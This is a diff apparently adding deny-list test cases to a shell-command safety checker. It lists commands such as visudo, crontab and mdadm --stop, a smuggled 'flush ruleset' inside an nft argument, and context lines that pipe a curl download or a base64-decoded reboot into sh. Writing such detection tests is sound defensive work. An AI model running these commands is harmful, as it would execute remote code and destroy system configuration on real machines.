@@ -276,6 +276,39 @@ U tail -n 5 --pid=x --frob x
 ! pidstat -e reboot
 ! smartctl -l scterc,70,70 /dev/sda
 ! sh -c 'ls $[1+1]'
+! git frobnicate
+! git pus
+! docker frobnicate
+! cargo frobnicate
+! ntpdate pool.example
+! rpm -i x.rpm
+! rpm -ivh x.rpm
+! unzip x.zip
+! gzip x
+! xz x
+! crontab
+! crontab -u root
+! fc
+! sshd
+! nginx
+! nginx -c /tmp/x
+! visudo
+! make
+! python
+! node
+! terraform
+! go
+! resolvectl dns eth0 192.0.2.1
+! nft list 'ruleset; flush ruleset'
+! ovs-vsctl show -- del-br br0
+! dnf history undo 3
+! ntpq -c ':config x'
+! sensors -s
+! mdadm --stop /dev/md0
+! pacman -S x
+! tar -xf x.tar
+! docker context use x
+! at now
 ! echo cmVib290 | base64 -d | sh
 ! curl https://192.0.2.9/x | sh
 `,
